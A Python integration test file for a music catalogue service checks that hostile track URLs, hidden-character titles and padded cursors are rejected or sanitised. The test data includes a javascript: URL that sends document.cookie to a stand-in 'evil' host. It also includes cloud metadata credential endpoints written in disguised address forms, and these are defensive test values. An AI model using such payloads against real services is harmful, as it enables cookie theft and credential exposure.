"""Issue 9.4's input hygiene end to end: hostile URLs in records the real local PDS serves, old
stored URLs, list names and titles under the lexicon's rules, padded cursors."""

import json

import pytest

from albums_core import bootstrap
from albums_core.adapters.dynamodb.catalogue import CatalogueRepository, CatalogueWriter
from albums_core.domain.errors import InvalidCursor, Unprocessable
from tests.integration.factory import add_tracks, make_album, make_artist
from tests.integration.write_fixtures import Artist

METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"


def test_hostile_urls_in_track_records_never_reach_the_album_page(alice: Artist) -> None:
    hostile = alice.publish_track("Hostile", audioUrl="javascript:fetch('//evil/'+document.cookie)", imageUrl=METADATA)
    linked = alice.publish_track("Linked", audioUrl="https://[::ffff:a9fe:a9fe]/a.mp3", imageUrl="https://0xa9fea9fe/")
    fine = alice.publish_track("Fine", audioUrl="https://cdn.example/fine.mp3", imageUrl="https://cdn.example/f.png")
    alice.publish_list("Hygiene", [hostile, linked, fine])
    bootstrap.indexing().sync_artist(alice.caller.artist)

    stored = {t.title: t for t in CatalogueWriter().artist_tracks(alice.did)}
    assert stored["Hostile"].r2_url is None and stored["Hostile"].image_url is None
    assert stored["Linked"].r2_url is None and stored["Linked"].image_url is None
    assert stored["Fine"].r2_url == "https://cdn.example/fine.mp3"

    body = bootstrap.album_pages().render("alice.test", "hygiene", None)
    assert "javascript" not in body and "169.254" not in body and "a9fe" not in body
    tracks = {t["title"]: t for t in json.loads(body)["tracks"]}
    assert tracks["Hostile"]["r2_url"] is None and tracks["Linked"]["r2_url"] is None
    assert tracks["Fine"]["r2_url"] == "https://cdn.example/fine.mp3"
    assert tracks["Fine"]["image_url"] == "https://cdn.example/f.png"


def test_urls_stored_before_the_check_are_nulled_on_the_way_out(repo: CatalogueRepository) -> None:
    mallory = make_artist(repo, "mallory.test", avatar="javascript:alert(1)", pds_url="https://10.0.0.1")
    album, tracks = make_album(repo, mallory, "Old Data", tracks=1, image_url=METADATA)
    # a track indexed by an earlier version, its audio URL stored verbatim
    add_tracks(
        repo, album, [type(tracks[0])(**{**tracks[0].__dict__, "id": repo.next_track_id(), "r2_url": "javascript:x"})]
    )
    for item in (
        bootstrap.listings().list_albums(50, None)["albums"]
        + bootstrap.listings().list_artist_albums("mallory.test")["albums"]
    ):
        assert item["image_url"] is None and item["thumbnail_url"] is None
    page = json.loads(bootstrap.album_pages().render("mallory.test", album.slug, None))
    assert page["metadata"]["image_url"] is None
    for track in page["tracks"]:
        assert track["r2_url"] is None and track["artist_avatar_url"] is None
        assert track["atproto_record_url"] is None  # built from a PDS endpoint on a private address


def test_list_names_with_hidden_characters_are_salvaged_when_indexed(alice: Artist) -> None:
    track = alice.publish_track("Only")
    alice.publish_list("\u202eevirD\u202c thgiN\u200b\u3164", [track])
    flags = "\U0001f1ef\U0001f1f5" * 64  # 64 graphemes, 512 bytes
    alice.publish_list(flags, [])
    alice.publish_list("\u2800\u3164\u200b", [])
    bootstrap.indexing().sync_artist(alice.caller.artist)
    titles = {a.title for a in CatalogueWriter().artist_albums(alice.did)}
    assert titles == {"evirD thgiN", "\U0001f1ef\U0001f1f5" * 32, "Untitled album"}


@pytest.mark.parametrize(
    ("title", "detail"),
    [
        ("\u3164", "title: must not contain invisible or formatting characters (U+3164)"),
        ("\u2800\u2800", "title: must not contain invisible or formatting characters (U+2800)"),
        ("Night\u202eevirD", "title: must not contain invisible or formatting characters (U+202E)"),
        ("A\u2066B\u2069", "title: must not contain invisible or formatting characters (U+2066)"),
        ("Dawn\ufeff", "title: must not contain invisible or formatting characters (U+FEFF)"),
        ("Da\u200bwn", "title: must not contain invisible or formatting characters (U+200B)"),
        ("Dawn\uffff", "title: must not contain noncharacters (U+FFFF)"),
        ("\U0001f1ef\U0001f1f5" * 64, "title: at most 64 characters (256 bytes of UTF-8)"),
    ],
)
def test_titles_break_the_list_lexicon_with_422_naming_the_field(alice: Artist, title: str, detail: str) -> None:
    with pytest.raises(Unprocessable) as err:
        alice.admin().create(title)
    assert err.value.status == 422 and err.value.detail == detail  # web.py sends {"detail": ...}
    assert CatalogueWriter().artist_albums(alice.did) == []


def test_a_cursor_spelled_with_padding_is_invalid(repo: CatalogueRepository) -> None:
    artist = make_artist(repo, "pager.test")
    for title in ("a", "b", "c"):
        make_album(repo, artist, title, tracks=1)
    cursor = bootstrap.listings().list_albums(1, None)["next_cursor"]
    assert cursor and bootstrap.listings().list_albums(1, cursor)["albums"]
    body, tag = cursor.split(".")
    for padded in (f"{body}.{tag}==", f"{body}==.{tag}", f"{body}.{tag}="):
        with pytest.raises(InvalidCursor):
            bootstrap.listings().list_albums(1, padded)
